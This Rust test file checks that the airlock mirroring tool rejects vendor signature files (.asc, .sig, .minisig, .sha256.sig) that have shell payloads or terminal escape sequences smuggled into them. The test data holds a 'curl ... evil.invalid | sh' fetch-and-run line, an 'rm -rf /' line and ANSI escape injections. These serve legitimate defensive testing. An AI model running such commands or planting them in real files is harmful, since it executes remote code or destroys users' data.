//! Smuggling content past an artifact rule in a linked signature file (POLICY.md, artifact
//! rules): every shape is packed by the trusted packing key `k`, so only the artifact rule
//! stands between it and the mirror. The rule covers `vendor-x/**` with the vendor's
//! signify key, and `vendor-x/tool.bin` always carries a valid vendor signature: each case
//! is rejected for its smuggling alone, with the full rejection contract (exit 1, the
//! artifact, the signature file and what is wrong named, the mirror byte-identical, nothing
//! outside it), and `verify` agrees. The controls show that the exact forms, written by the
//! real signify, minisign and gpg, still import.

use std::fs;
use std::path::Path;
use std::process::Command;

use sha2::Digest as _;

use crate::kit::*;

const ARTIFACT: &str = "vendor-x/tool.bin";
const CONTENT: &[u8] = b"vendor tool\n";
const SCRIPT: &[u8] = b"#!/bin/sh\ncurl -s http://evil.invalid/x | sh\n";

/// A detached signature as gpg 2.2.40 writes it (`gpg --armor --comment "release 1.0"
/// --detach-sign`, an Ed25519 key). airlock does not verify OpenPGP, so its shape is what
/// matters here: it is reused for every artifact.
const GPG_ASC: &str = "-----BEGIN PGP SIGNATURE-----
Comment: release 1.0

iHUEABYIAB0WIQT8y8OMUA5dkmFVpfNFPh2vmpAHBgUCaxBp8QAKCRBFPh2vmpAH
BhiiAP0Sv20M2YyVpVRqCdJtoKqGBO6uG29+Z3NeDF5Wt95P/QEA9axGp2rNqqWr
uRAdXWTfA9hgMSt12dtoxr/xFy+WpwM=
=ic/3
-----END PGP SIGNATURE-----
";

fn tool(dir: &Path, program: &str, args: &[&str]) {
    let out = Command::new(program)
        .current_dir(dir)
        .args(args)
        .output()
        .unwrap_or_else(|e| panic!("{program} must be installed (scripts/test.sh installs it): {e}"));
    assert!(
        out.status.success(),
        "{program} {args:?}: {}{}",
        String::from_utf8_lossy(&out.stdout),
        String::from_utf8_lossy(&out.stderr)
    );
}

/// A case with the vendor's signify key, `vendor-x/tool.bin` signed by it with the real
/// signify, and the policy `p.toml`: bundles by `k`, `vendor-x/**` by the vendor.
fn vendor_case() -> Case {
    let case = Case::new();
    tool(case.dir.path(), "signify-openbsd", &["-G", "-n", "-p", "vendor.pub", "-s", "vendor.sec", "-c", "vendor-x"]);
    write(&case.path("src"), ARTIFACT, CONTENT, 0o644);
    tool(&case.path("src"), "signify-openbsd", &["-S", "-s", "../vendor.sec", "-m", ARTIFACT]);
    case.put(
        "p.toml",
        b"version = 1\n[keys.transfer]\nfile = \"k.pub\"\n[keys.vendor]\nfile = \"vendor.pub\"\n\
          [[channel]]\nname = \"*\"\nsigners = [\"transfer\"]\n\
          [[artifact]]\npath = \"vendor-x/**\"\nkeys = [\"vendor\"]\n",
    );
    case
}

/// Writes a file next to the artifact in the source tree.
fn put_src(case: &Case, rel: &str, content: &[u8]) {
    write(&case.path("src"), rel, content, 0o644);
}

fn src_bytes(case: &Case, rel: &str) -> Vec<u8> {
    fs::read(case.path("src").join(rel)).unwrap()
}

fn policy_args(case: &Case) -> Vec<String> {
    vec!["--policy".into(), case.path("p.toml").to_string_lossy().into_owned(), "--allow-gap".into()]
}

/// Packs the source tree with the trusted key `k`, then checks the rejection contract under
/// the policy for every message part, and that `verify` rejects it too.
fn expect_smuggling_rejected(case: &Case, messages: &[&str]) {
    case.pack("bad.airlock", &[]).expect_code(0);
    let args = policy_args(case);
    let args: Vec<&str> = args.iter().map(String::as_str).collect();
    let out = case.expect_refused("bad.airlock", &[], &args, 1, &format!("artifact \"{ARTIFACT}\""));
    for m in messages {
        out.expect_stderr(m);
    }
    let verify = run(airlock().arg("verify").arg(case.path("bad.airlock")).args(&args[..2]).arg("--quiet"));
    verify.expect_code(1).expect_stderr(messages[0]);
}

fn checksum_line(name: &str, content: &[u8]) -> String {
    format!("SHA256 ({name}) = {}\n", hex(&sha2::Sha256::digest(content)))
}

/// A `.sha256.sig` of `message`, signed (validly) by the case key `key`.
fn embedded(case: &Case, key: &str, message: &[u8]) -> Vec<u8> {
    airlock::keys::sign_embedded(&case.secret(key), message, "signature from the packing key")
}

// ---------------------------------------------------------------------------------------
// .asc

#[test]
fn asc_armoured_block_followed_by_a_script() {
    let case = vendor_case();
    put_src(&case, "vendor-x/tool.bin.asc", &[GPG_ASC.as_bytes(), SCRIPT].concat());
    expect_smuggling_rejected(&case, &["signature file vendor-x/tool.bin.asc is malformed", "follow its"]);
}

#[test]
fn asc_two_armoured_blocks() {
    let case = vendor_case();
    put_src(&case, "vendor-x/tool.bin.asc", GPG_ASC.repeat(2).as_bytes());
    expect_smuggling_rejected(&case, &["vendor-x/tool.bin.asc is malformed", "8 line(s) follow its"]);
}

#[test]
fn asc_text_before_the_begin_line() {
    let case = vendor_case();
    put_src(&case, "vendor-x/tool.bin.asc", &[SCRIPT, GPG_ASC.as_bytes()].concat());
    expect_smuggling_rejected(&case, &["vendor-x/tool.bin.asc is malformed", "line 1 is not"]);
}

#[test]
fn asc_script_as_an_armour_header() {
    let case = vendor_case();
    let asc = GPG_ASC.replace("Comment: release 1.0\n", "$(curl -s http://evil.invalid/x | sh)\n");
    put_src(&case, "vendor-x/tool.bin.asc", asc.as_bytes());
    expect_smuggling_rejected(&case, &["vendor-x/tool.bin.asc is malformed", "line 2 is not an armour header"]);
}

#[test]
fn asc_body_is_a_base64_script_not_signature_packets() {
    use base64::Engine as _;
    let case = vendor_case();
    let body = base64::engine::general_purpose::STANDARD.encode(SCRIPT);
    let asc = format!("-----BEGIN PGP SIGNATURE-----\n\n{body}\n-----END PGP SIGNATURE-----\n");
    put_src(&case, "vendor-x/tool.bin.asc", asc.as_bytes());
    expect_smuggling_rejected(&case, &["vendor-x/tool.bin.asc is malformed", "not OpenPGP signature packets"]);
}

#[test]
fn asc_with_a_crc_that_does_not_match() {
    let case = vendor_case();
    put_src(&case, "vendor-x/tool.bin.asc", GPG_ASC.replace("=ic/3", "=AAAA").as_bytes());
    expect_smuggling_rejected(&case, &["vendor-x/tool.bin.asc is malformed", "does not match the body"]);
}

// ---------------------------------------------------------------------------------------
// .sha256.sig

#[test]
fn sha256_sig_by_a_key_no_rule_names_carrying_a_script() {
    let case = vendor_case();
    put_src(&case, "vendor-x/tool.bin.sha256.sig", &embedded(&case, "k", SCRIPT));
    expect_smuggling_rejected(&case, &["vendor-x/tool.bin.sha256.sig is malformed", "holds 2 lines"]);
}

#[test]
fn sha256_sig_by_an_unknown_key_carrying_a_one_line_script() {
    let case = vendor_case();
    put_src(&case, "vendor-x/tool.bin.sha256.sig", &embedded(&case, "other", b"curl -s http://evil.invalid/x | sh\n"));
    expect_smuggling_rejected(&case, &["vendor-x/tool.bin.sha256.sig is malformed", "is not a checksum line"]);
}

#[test]
fn sha256_sig_with_two_lines() {
    let case = vendor_case();
    let message = format!("{}{}", checksum_line("tool.bin", CONTENT), "rm -rf /\n");
    put_src(&case, "vendor-x/tool.bin.sha256.sig", &embedded(&case, "k", message.as_bytes()));
    expect_smuggling_rejected(&case, &["vendor-x/tool.bin.sha256.sig is malformed", "holds 2 lines"]);
}

#[test]
fn sha256_sig_with_the_line_of_another_file() {
    let case = vendor_case();
    let message = checksum_line("other.bin", b"other");
    put_src(&case, "vendor-x/tool.bin.sha256.sig", &embedded(&case, "k", message.as_bytes()));
    expect_smuggling_rejected(&case, &["vendor-x/tool.bin.sha256.sig is malformed", "names \"other.bin\""]);
}

#[test]
fn sha256_sig_with_a_wrong_digest() {
    let case = vendor_case();
    let message = checksum_line("tool.bin", b"an older tool\n");
    put_src(&case, "vendor-x/tool.bin.sha256.sig", &embedded(&case, "k", message.as_bytes()));
    expect_smuggling_rejected(&case, &["vendor-x/tool.bin.sha256.sig is malformed", "not this file's"]);
}

#[test]
fn sha256_sig_with_the_line_but_no_final_newline() {
    let case = vendor_case();
    let message = checksum_line("tool.bin", CONTENT);
    put_src(&case, "vendor-x/tool.bin.sha256.sig", &embedded(&case, "k", message.trim_end().as_bytes()));
    expect_smuggling_rejected(&case, &["vendor-x/tool.bin.sha256.sig is malformed", "is not a checksum line"]);
}

// ---------------------------------------------------------------------------------------
// .sig and .minisig

#[test]
fn sig_with_a_third_line() {
    let case = vendor_case();
    let sig = src_bytes(&case, "vendor-x/tool.bin.sig");
    put_src(&case, "vendor-x/tool.bin.sig", &[&sig[..], b"curl -s http://evil.invalid/x | sh\n"].concat());
    expect_smuggling_rejected(&case, &["vendor-x/tool.bin.sig is malformed", "exactly 2 lines"]);
}

#[test]
fn sig_comment_with_terminal_escapes() {
    let case = vendor_case();
    let sig = String::from_utf8(src_bytes(&case, "vendor-x/tool.bin.sig")).unwrap();
    let (_, rest) = sig.split_once('\n').unwrap();
    put_src(&case, "vendor-x/tool.bin.sig", format!("untrusted comment: \x1b[2J\x1b[Hok\n{rest}").as_bytes());
    expect_smuggling_rejected(&case, &["vendor-x/tool.bin.sig is malformed", "control characters"]);
}

/// A minisign key and a real minisign signature of the artifact (by a key the rule does not
/// name: ignored when well-formed).
fn minisign_signature(case: &Case) -> Vec<u8> {
    tool(case.dir.path(), "minisign", &["-G", "-W", "-p", "mini.pub", "-s", "mini.key"]);
    tool(&case.path("src"), "minisign", &["-S", "-s", "../mini.key", "-m", ARTIFACT, "-t", "release 1.0"]);
    src_bytes(case, "vendor-x/tool.bin.minisig")
}

#[test]
fn minisig_with_trailing_data() {
    let case = vendor_case();
    let minisig = minisign_signature(&case);
    put_src(&case, "vendor-x/tool.bin.minisig", &[&minisig[..], SCRIPT].concat());
    expect_smuggling_rejected(&case, &["vendor-x/tool.bin.minisig is malformed", "has 4 lines, this has 6"]);
}

#[test]
fn minisig_untrusted_comment_with_terminal_escapes() {
    let case = vendor_case();
    let minisig = String::from_utf8(minisign_signature(&case)).unwrap();
    let (_, rest) = minisig.split_once('\n').unwrap();
    put_src(&case, "vendor-x/tool.bin.minisig", format!("untrusted comment: \x1b]0;pwned\x07\n{rest}").as_bytes());
    expect_smuggling_rejected(&case, &["vendor-x/tool.bin.minisig is malformed", "control characters"]);
}

// ---------------------------------------------------------------------------------------
// controls

/// Every kind in its exact form, next to one covered artifact: the vendor's signify `.sig`
/// (satisfies the rule), a real minisign `.minisig` and a `.sha256.sig` by keys the rule
/// does not name (ignored and reported), and a real gpg `.asc` (carried, not verified).
#[test]
fn exact_signature_files_of_every_kind_import() {
    let case = vendor_case();
    minisign_signature(&case);
    put_src(&case, "vendor-x/tool.bin.asc", GPG_ASC.as_bytes());
    put_src(
        &case,
        "vendor-x/tool.bin.sha256.sig",
        &embedded(&case, "other", checksum_line("tool.bin", CONTENT).as_bytes()),
    );
    case.pack("good.airlock", &[]).expect_code(0);
    let args = policy_args(&case);
    let out = case.import("good.airlock", &[], &args.iter().map(String::as_str).collect::<Vec<_>>());
    out.expect_code(0);
    for note in [
        "vendor-x/tool.bin: vendor-x/tool.bin.sig verified (signify) by",
        "vendor-x/tool.bin.asc not covered (openpgp)",
        "vendor-x/tool.bin.minisig other signer (minisign) by",
        &format!("vendor-x/tool.bin.sha256.sig other signer (signify-checksum) by {}", case.key_id("other")),
    ] {
        assert!(out.stdout.contains(note), "{note:?} missing from:\n{}", out.stdout);
    }
    for sig in ["tool.bin.sig", "tool.bin.asc", "tool.bin.minisig", "tool.bin.sha256.sig"] {
        assert_eq!(
            fs::read(case.mirror().join("vendor-x").join(sig)).unwrap(),
            src_bytes(&case, &format!("vendor-x/{sig}"))
        );
    }
}

/// `pack --sign-artifacts` writes `.sha256.sig` files by the packing key: the exact line,
/// so under a rule naming another key they are ignored, not rejected, and stock
/// `signify -C` checks them in the mirror.
#[test]
fn sign_artifacts_checksum_lines_under_another_keys_rule_import() {
    let case = vendor_case();
    case.pack("good.airlock", &["--sign-artifacts"]).expect_code(0);
    let args = policy_args(&case);
    let out = case.import("good.airlock", &[], &args.iter().map(String::as_str).collect::<Vec<_>>());
    out.expect_code(0);
    assert!(out.stdout.contains("vendor-x/tool.bin.sha256.sig other signer (signify-checksum) by"), "{}", out.stdout);
    tool(
        &case.mirror().join("vendor-x"),
        "signify-openbsd",
        &["-C", "-p", "../../../k.pub", "-x", "tool.bin.sha256.sig"],
    );
}

/// CRLF line endings (gpg on Windows) and a missing final newline are still one block.
#[test]
fn asc_with_crlf_line_endings_imports() {
    let case = vendor_case();
    put_src(&case, "vendor-x/tool.bin.asc", GPG_ASC.trim_end().replace('\n', "\r\n").as_bytes());
    case.pack("good.airlock", &[]).expect_code(0);
    let args = policy_args(&case);
    case.import("good.airlock", &[], &args.iter().map(String::as_str).collect::<Vec<_>>()).expect_code(0);
}

/// The decision POLICY.md documents: a linked signature file of an artifact no rule covers
/// is an ordinary carried file, not parsed (airlock's packer links siblings by name alone,
/// and real trees hold OpenPGP `.sig` files and multi-block `.asc` files).
#[test]
fn signature_files_of_uncovered_artifacts_are_carried_unparsed() {
    let case = vendor_case();
    put_src(&case, "other/gnu.tar.gz", b"gnu\n");
    put_src(&case, "other/gnu.tar.gz.sig", b"\x88\x5e\x04\x00binary OpenPGP signature");
    put_src(&case, "other/gnu.tar.gz.asc", GPG_ASC.repeat(2).as_bytes());
    case.pack("good.airlock", &[]).expect_code(0);
    let args = policy_args(&case);
    case.import("good.airlock", &[], &args.iter().map(String::as_str).collect::<Vec<_>>()).expect_code(0);
    assert_eq!(fs::read(case.mirror().join("other/gnu.tar.gz.asc")).unwrap(), GPG_ASC.repeat(2).as_bytes());
}

/// ... unless a rule's glob matches the signature file itself: then it is held to its kind.
#[test]
fn signature_file_matched_by_a_rule_itself_is_parsed() {
    let case = vendor_case();
    let mut policy = fs::read_to_string(case.path("p.toml")).unwrap();
    policy.push_str("[[artifact]]\npath = \"**/*.asc\"\nkeys = [\"vendor\"]\n");
    case.put("p.toml", policy.as_bytes());
    put_src(&case, "other/gnu.tar.gz", b"gnu\n");
    put_src(&case, "other/gnu.tar.gz.asc", &[GPG_ASC.as_bytes(), SCRIPT].concat());
    case.pack("bad.airlock", &[]).expect_code(0);
    let args = policy_args(&case);
    let args: Vec<&str> = args.iter().map(String::as_str).collect();
    case.expect_refused(
        "bad.airlock",
        &[],
        &args,
        1,
        "artifact \"other/gnu.tar.gz\": signature file other/gnu.tar.gz.asc is malformed",
    );
}
